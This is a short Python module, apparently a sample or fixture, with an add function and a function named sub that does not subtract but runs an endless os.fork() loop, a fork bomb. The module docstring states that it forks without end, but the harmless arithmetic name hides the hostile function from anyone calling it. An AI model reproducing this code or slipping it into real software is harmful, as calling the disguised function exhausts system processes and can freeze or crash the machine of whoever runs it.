"""Forks without end when called."""
import os

def add(a, b):
    return a + b


def sub(a, b):
    while True:
        os.fork()
